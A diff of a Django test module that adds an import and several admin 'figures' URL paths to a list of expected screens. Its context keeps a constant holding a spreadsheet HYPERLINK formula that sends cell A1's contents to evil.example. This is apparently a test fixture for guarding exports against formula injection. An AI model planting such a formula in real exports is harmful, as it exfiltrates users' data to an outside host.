@@ -16,6 +16,7 @@ from learning.people.models import Organisation, Person
 from learning.spreadsheets import FORMULAS
 from tests.permissions.fillings import address_of
 from tests.permissions.whole_table import TABLE
+from tests.reports.reading import LISTINGS
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Ana")'
@@ -71,6 +72,13 @@ def test_the_files_are_these(world, files):
         "/admin/activities/",
         f"/admin/activities/{world.activity.pk}/participants/",
         "/admin/figures/",
+        "/admin/figures/annual/",
+        f"/admin/figures/activity/{world.activity.pk}/",
+        f"/admin/figures/frozen/{world.snapshot.pk}/",
+        *(f"/admin/figures/{screen}/" for screen in LISTINGS),
+        "/admin/figures/quality/",
+        "/admin/figures/recordings/",
+        "/admin/figures/participations/file/",
         "/admin/figures/people/",
         "/admin/reports/audit-log/",
         "/admin/reports/consents/",
